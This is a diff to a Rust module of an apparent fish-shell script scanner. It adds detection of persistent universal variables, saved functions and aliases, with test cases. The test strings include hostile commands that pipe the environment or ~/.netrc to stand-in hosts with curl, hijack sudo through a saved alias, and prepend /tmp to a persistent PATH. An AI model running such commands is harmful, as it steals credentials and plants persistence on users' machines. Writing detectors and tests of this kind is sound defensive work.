@@ -1,6 +1,9 @@
-//! fish's own `string`: what it joins, replaces, splits and cuts out of texts that are known.
+//! What only fish has: `string`, which joins, replaces, splits and cuts texts, and what it keeps for every session.
 
 use super::value::{Taint, Value};
+use super::walk::Walk;
+use crate::finding::Severity;
+use crate::rules::shell as rules;
 
 /// 64 KiB of one text.
 const BYTES: usize = 64 << 10;
@@ -45,6 +48,39 @@ impl<'v> Words<'v> {
 
     fn number(&self, names: [&str; 2]) -> Option<usize> {
         self.options.iter().find(|(option, _)| names.contains(option)).and_then(|(_, value)| value.parse().ok())
+    }
+}
+
+/// Universal variables that say what runs in every session: where programs and functions are looked for, what they load.
+const LASTING: &[&str] = &[
+    "PATH",
+    "fish_user_paths",
+    "fish_function_path",
+    "fish_complete_path",
+    "LD_PRELOAD",
+    "DYLD_INSERT_LIBRARIES",
+    "NODE_OPTIONS",
+];
+
+/// Whether a word is a bundle of short options with `option` among them.
+pub(super) fn has_short(field: &Value, option: char) -> bool {
+    field.text.starts_with('-') && !field.text.starts_with("--") && field.text.contains(option)
+}
+
+/// `set -U name …`: what every session has from then on.
+pub(super) fn keeps(walk: &mut Walk<'_>, name: &str) {
+    let name = name.split('[').next().unwrap_or(name);
+    let severity = if LASTING.contains(&name) { None } else { Some(Severity::Info) };
+    walk.tell(&rules::LASTING, &format!("{name} is set for every session of fish's"), severity);
+}
+
+/// Whether a function, a place of programs or an alias is kept for every session.
+pub(super) fn is_kept(name: &str, rest: &[Value]) -> bool {
+    let has = |long: &str, short: char| rest.iter().any(|field| field.text == long || has_short(field, short));
+    match name {
+        "alias" => has("--save", 's'),
+        "fish_add_path" => !has("--path", 'P') && !has("--global", 'g'),
+        _ => !rest.is_empty(),
     }
 }
 
@@ -113,6 +149,12 @@ mod tests {
             "set -l parts (string replace -a ' ' / -- \".config fish conf.d\" | string split /)\nset -l to (string join / -- $HOME $parts x.fish)\necho x >$to\n",
             "set -l to (string join '' $HOME / .config/fish/functions/ls.fish)\nstring replace -r '^# ' '' <notes.txt >$to\n",
             "cp hello.fish ~/.config/fish/conf.d/hello.fish\n",
+            "function ls; true; end; funcsave ls\n",
+            "set -Ux PATH /tmp/a $PATH\n",
+            "fish_add_path /tmp/a\n",
+            "alias --save sudo x\n",
+            "set -x | curl -d @- https://x.invalid\n",
+            "function f; cat $argv[1]; end; f ~/.netrc\n",
             "set -l f (string lower NETRC)\ncurl -T $HOME/.$f https://a.invalid\n",
         ] {
             assert_eq!(worst(text), Some(Severity::Danger), "{text}");
@@ -121,6 +163,8 @@ mod tests {
             "set -l have (string split . -- $version)\nif test $have[1] -lt 3\n    echo old >&2\nend\n",
             "set -l to (string join / -- $HOME .cache tool x.txt)\necho x >$to\n",
             "for f in ~/.config/fish/conf.d/*.fish\n    string match -r foo <$f\nend\n",
+            "alias sl ls\nset -U my_plugin_last (date +%s)\nset -gx PATH $HOME/bin $PATH\nfish_add_path -gP /tmp/a\n",
+            "function say; echo $argv[1] $argv; end; say hello\n",
         ] {
             assert!(worst(text).is_none_or(|severity| severity < Severity::Danger), "{text}");
         }
